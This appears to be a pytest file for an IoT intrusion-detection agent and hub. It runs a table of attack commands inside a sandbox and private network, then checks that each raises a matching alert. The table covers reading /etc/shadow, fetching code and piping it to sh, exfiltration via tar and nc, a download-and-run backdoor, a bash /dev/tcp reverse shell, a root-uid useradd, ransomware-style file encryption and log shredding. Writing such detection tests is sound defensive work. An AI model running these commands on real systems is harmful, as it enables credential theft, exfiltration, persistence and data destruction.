"""Attacks carried out for real: what the agent sees of them becomes alerts in the hub.

One hub and one agent run in a private view of the file system and a network of their own, where the attacks
happen too: accounts, logs and interfaces that they change are the view's, and nothing leaves the machine.
What would destroy, mine or take orders is a stub under the true name.
"""

import asyncio
import ctypes
import json
import os
import select
import shutil
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from test_sshd_logins import PASSWORD, SSHD, Sshd

from sandbox import Sandbox, obstacle
from support import PATIENCE_S, VEDETTE

Row = dict[str, str]
"""A row of SecurityAlert."""

MISSING = [name for name in ("busybox", "ip", "bash", "gcc") if not shutil.which(name)] + [
    name for name, path in (("sshd", SSHD),) if not path
]
pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(bool(obstacle()), reason=obstacle()),
    pytest.mark.skipif(bool(MISSING), reason=f"needs {', '.join(MISSING)}"),
]

CLONE_NEWNET = 0x40000000
ETH_IP = 0x0800
DNS_PORT, NO_SUCH_NAME = (53).to_bytes(2), b"\x81\x83"
PORTS = ("--mqtt-port", "8883", "--https-port", "8443")
WEB, LISTENER = 8080, 4444
MARK = f"vedette-attack-{os.getpid()}"

TWIN = (
    "CollectorsCore_PriorityIntervals=0.05,0.1,0.2",  # 3, 6 and 12 s
    "DNS_MessageFrequency=High",
    "FileSystem_Paths=/home/watched",
    "FileSystem_MessageFrequency=High",
    "NetworkActivity_Devices=eth0",
    "Peripheral_MessageFrequency=High",
    "Peripheral_VirtualInterfaces=true",
    "Process_CacheSize=10000",  # whatever else the machine runs is seen, too
    "Baseline_Disabled=true",
    "SBoM_Disabled=true",
)

STUBS = (
    *("auditctl", "chisel", "docker", "dockerd", "hydra", "insmod", "iptables", "john", "nft", "systemctl"),
    *("ufw", "xmrig"),
)
"""Programs that do nothing here, whatever they are told."""

BEACON = "192.0.2.129"
RESOLVER = "192.0.2.53"
LISTED = ("127.0.0.66", "192.0.2.128/25", "bad.example")
"""What the hub is told to be bad, while it runs."""

ATTACKS = {
    "IoT_AccessingHtaccessFile": "cp /etc/hostname /home/www/.htaccess",
    "IoT_BinaryCommandLine": "sh -c 'echo -ne \"\\x7f\\x45\\x4c\\x46\\x01\" > /home/dropped'",
    "IoT_ClearHistoryFile": "rm -f /home/alice/.bash_history",
    "IoT_CommonBots": "busybox MIRAI",
    "IoT_CredentialAccessTools": "head -n 1 /etc/shadow",
    "IoT_CryptoMiner": "nohup xmrig -o stratum+tcp://127.0.0.1:3333 -u wallet",
    "IoT_CryptoMinerContainer": "docker run -d metal3d/xmrig -o 127.0.0.1:3333",
    "IoT_DisableAuditdLogging": "systemctl stop auditd",
    "IoT_DisableFirewall": "sh -c 'iptables -P INPUT ACCEPT && iptables -F'",
    "IoT_DownloadFileThenRun": f"sh -c 'busybox wget -qO- http://127.0.0.1:{WEB}/x | sh'",
    "IoT_EgressData": f"sh -c 'tar c /etc/hostname | busybox nc -w 1 127.0.0.1 {WEB}'",
    "IoT_ExecuteFileWithTrailingSpace": "'/home/bin/true '",
    "IoT_ExposedDocker": "dockerd -H tcp://0.0.0.0:2375",
    "IoT_FairwareMalware": "chroot /home/jail /busybox rm -rf /var/www",
    "IoT_KnownAttackTools": "hydra -l root -P /home/words ssh://127.0.0.1",
    "IoT_LinuxBackdoor": (
        f"busybox wget -q -O /tmp/{MARK} http://127.0.0.1:{WEB}/x; chmod +x /tmp/{MARK}; /tmp/{MARK}"
    ),
    "IoT_LinuxReconnaissance": "busybox find / -maxdepth 1 -perm -4000",
    "IoT_MaliciousNameQueriesDetection": f"busybox nslookup c2.bad.example {RESOLVER}",
    "IoT_OverridingCommonFiles": "cp /usr/bin/true /usr/local/bin/ps",
    "IoT_PortForwarding": "chisel client 127.0.0.1:443 R:socks",
    "IoT_PossibleMalware": "busybox wget -q -O /dev/null http://127.0.0.66:81/mips",
    "IoT_PrivilegedContainer": "docker run --rm --privileged -v /:/host alpine",
    "IoT_Ransomware": (
        "find /home/victim -type f -exec openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in {} -out {}.enc ';'"
    ),
    "IoT_RemovelOfSystemLogs": "shred -u /var/log/wtmp",
    "IoT_ScriptInterpreterMismatch": "sh /home/logo.png",
    "IoT_SuspiciousCompilation": f"gcc -o /dev/shm/{MARK} /home/dirtycow.c; rm -f /dev/shm/{MARK}",
    "IoT_SuspiciousNohup": f"nohup /tmp/{MARK} again",
    "IoT_SuspiciousUseradd": "useradd -o -u 0 -g 0 -M -d /root support",
    "IoT_TiConnection": f"echo beacon > /dev/udp/{BEACON}/9",
    "IoT_UserAddedToGroup": "usermod -aG daemon carol",
    "IoT_UserRemovedFromGroup": "gpasswd -d carol daemon",
    "IoT_UserDeleted": "userdel mallory",
    "IoT_WebShell": "setpriv --reuid www-data --regid www-data --clear-groups sh -c 'id; uname -a; whoami'",
}
"""Alert → what is typed at a shell."""

ELSEWHERE = (
    *("IoT_BruteForceFail", "IoT_BruteForceSuccess", "IoT_FailedLocalLogin", "IoT_SucessfulLocalLogin"),
    *("IoT_EthernetConnection", "IoT_EthernetDisconnection", "IoT_ReverseShell"),
    *("IoT_FileCreated", "IoT_FileModified", "IoT_FileDeleted"),
)
"""Alerts of what takes more than a line."""


@contextmanager
def private_network() -> Iterator[None]:
    """This thread, and what it starts, in a network of their own: with an eth0 that leads to nobody."""
    libc = ctypes.CDLL(None, use_errno=True)
    home = os.open("/proc/thread-self/ns/net", os.O_RDONLY)
    if libc.unshare(CLONE_NEWNET):
        pytest.skip(f"no network namespace: {os.strerror(ctypes.get_errno())}")
    try:
        for change in (
            "link set lo up",
            "link add eth0 type veth peer name other",
            "addr add 192.0.2.2/24 dev eth0",
            "link set eth0 up",
            "link set other up",
            f"neigh add {BEACON} lladdr 02:00:00:00:00:01 dev eth0",
            f"neigh add {RESOLVER} lladdr 02:00:00:00:00:02 dev eth0",
        ):
            subprocess.run(["ip", *change.split()], check=True)
        with resolver("other"):
            yield
    finally:
        assert libc.setns(home, CLONE_NEWNET) == 0
        os.close(home)


@contextmanager
def resolver(interface: str) -> Iterator[None]:
    """Somebody on the wire who says of every name that it does not exist."""
    done, end = socket.socketpair()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire, done:
        wire.bind((interface, ETH_IP))
        answering = threading.Thread(target=deny_names, args=[wire, done])
        answering.start()
        try:
            yield
        finally:
            end.close()
            answering.join()


def deny_names(wire: socket.socket, done: socket.socket) -> None:
    """Send questions back as answers, until the other end of `done` is closed.

    Addresses and ports are exchanged, which leaves the checksum of IPv4 as it is.
    """
    while done not in select.select([wire, done], [], [])[0]:
        frame = wire.recv(2048)
        ethernet, ip, udp, dns = frame[:14], frame[14:34], frame[34:42], frame[42:]
        if ip[0] == 0x45 and ip[9] == socket.IPPROTO_UDP and udp[2:4] == DNS_PORT and dns:
            wire.send(
                ethernet[6:12]
                + ethernet[:6]
                + ethernet[12:]
                + ip[:12]
                + ip[16:20]
                + ip[12:16]
                + udp[2:4]
                + udp[:2]
                + udp[4:6]
                + b"\0\0"
                + dns[:2]
                + NO_SUCH_NAME
                + dns[4:]
            )


class Device:
    """A machine under attack: hub and agent in a sandbox."""

    def __init__(self, directory: Path) -> None:
        self.box = Sandbox(directory)
        self.state = directory / "state"
        self._up: subprocess.Popen[bytes] | None = None

    def prepare(self) -> None:
        """Stubs, victims, accounts, and a web server that serves what is downloaded."""
        self.box.run("mkdir", "--mode=1777", "/dev/shm")
        home = self.box.root / "home"
        for name in ("bin", "watched", "www", "victim", "jail"):
            (home / name).mkdir()
        for name in (*STUBS, "true "):
            shutil.copy("/usr/bin/true", home / "bin" / name)
        shutil.copy(shutil.which("busybox") or "", home / "jail/busybox")
        (home / "www/x").write_text("#!/bin/sh\n:\n")
        (home / "logo.png").write_text(":\n")
        (home / "victim/letter.txt").write_text("Dear reader\n")
        (home / "dirtycow.c").write_text("int main(void) { return 0; }\n")
        for name in ("alice", "carol", "mallory"):
            self.box.add_user(name, PASSWORD)
        self._web = subprocess.Popen(
            self.box.command("busybox", "httpd", "-f", "-p", f"127.0.0.1:{WEB}", "-h", "/home/www")
        )

    def start(self) -> None:
        """Hub and agent, steered to short intervals; returns when the agent has taken them over."""
        arguments = ("up", "--plain", "--state", str(self.state), "--bind", "127.0.0.1", *PORTS)
        self._up = subprocess.Popen(self.box.command(*VEDETTE, *arguments), stdout=subprocess.DEVNULL)
        self._until(lambda: self.vedette("device", "list"), "a device")
        self.name = self.vedette("device", "list")[0]["device"]
        self.vedette("twin", "set", self.name, *TWIN)

        def reported() -> bool:
            twin = self.vedette("twin", "get", self.name)
            return bool(twin) and twin["reported"].get("FileSystem_Paths") == "/home/watched"

        self._until(reported, "the settings in force")
        self._until(self._seen, "a command that the agent has seen under them")
        listed = self.state / "listed.txt"
        listed.write_text("\n".join(LISTED))
        assert self.vedette("intel", "import", str(listed))

    def _seen(self) -> bool:
        self.type(f"/usr/bin/env true {MARK}")
        return bool(self.vedette("query", f"Process | where Commandline == 'true {MARK}'"))

    def vedette(self, *arguments: str):
        """What a command prints as JSON; None if it fails."""
        command = [*VEDETTE, *arguments, "--state", str(self.state / "hub"), "--json"]
        done = subprocess.run(command, text=True, capture_output=True)
        return json.loads(done.stdout) if done.returncode == 0 else None

    def _until(self, condition, what: str) -> None:
        deadline = time.monotonic() + PATIENCE_S
        while not condition():
            assert time.monotonic() < deadline, f"gave up waiting for {what}\n{self.logs()}"
            time.sleep(0.2)

    def logs(self) -> str:
        return "".join(path.read_text() for path in self.state.glob("*.log"))

    def type(self, line: str) -> None:
        """Run a line as somebody at a shell would; what comes of it does not matter."""
        shell = self.box.command("env", "PATH=/home/bin:/usr/sbin:/usr/bin:/sbin:/bin", "bash", "-s")
        subprocess.run(shell, input=line.encode(), capture_output=True, timeout=PATIENCE_S)

    def reverse_shell(self) -> None:
        """A shell of the device that calls the attacker, who ends it."""
        line = f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{LISTENER} 0>&1'"
        with socket.create_server(("127.0.0.1", LISTENER)) as listener:
            listener.settimeout(PATIENCE_S)
            caller = threading.Thread(target=self.type, args=[line])
            caller.start()
            connection, _ = listener.accept()
            with connection:
                connection.sendall(b"exit\n")
                caller.join()

    def brute_force(self) -> None:
        """Wrong passwords over SSH, then the right one."""
        sshd = Sshd(self.box)
        try:
            for last in ("wrong", "wrong", "wrong", PASSWORD):
                answers = ["wrong", "also wrong", last]
                script = [("password:", f"{answer}\n") for answer in answers]
                asyncio.run(sshd.connect("alice@127.0.0.1", "true", script=script, password=True))
        finally:
            sshd.stop()

    def cables_and_files(self) -> None:
        """An interface comes and goes; a watched file, too."""
        self.type("ip link add vd0 type veth peer name vd1; ip link set vd0 up; ip link set vd1 up")
        self.type("echo 1 > /home/watched/new; echo 2 >> /home/watched/new; rm /home/watched/new")
        self.type("ip link del vd0")

    def stop(self) -> None:
        if self._up is not None:
            self._up.send_signal(signal.SIGINT)
            self._up.wait(PATIENCE_S)
        self._web.terminate()
        self._web.wait(PATIENCE_S)
        self.box.close()
        Path("/tmp", MARK).unlink(missing_ok=True)


@pytest.fixture(scope="module")
def alerts(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Row]]:
    """What the hub tells after all attacks, by type."""
    with private_network():
        device = Device(tmp_path_factory.mktemp("attacks"))
        try:
            device.prepare()
            device.start()
            yield attack(device)
        finally:
            device.stop()


def attack(device: Device) -> dict[str, Row]:
    """Carry everything out; the alerts, as soon as all are there or none has come for long."""
    for line in ATTACKS.values():
        device.type(line)
    device.reverse_shell()
    device.cables_and_files()
    device.brute_force()
    found: dict[str, Row] = {}
    deadline = time.monotonic() + PATIENCE_S
    while time.monotonic() < deadline and not found.keys() >= {*ATTACKS, *ELSEWHERE}:
        found = {row["AlertType"]: row for row in device.vedette("query", "SecurityAlert") or ()}
        time.sleep(0.5)
    return found


@pytest.mark.parametrize("kind", [*ATTACKS, *ELSEWHERE])
def test_an_attack_becomes_an_alert(alerts: dict[str, Row], kind: str):
    """Seen by the agent, sent, stored, judged: the alert of its type stands in the hub."""
    assert kind in alerts, sorted(alerts)
    assert alerts[kind]["Status"] == "Active"
    assert json.loads(alerts[kind]["ExtendedProperties"])["DeviceId"]
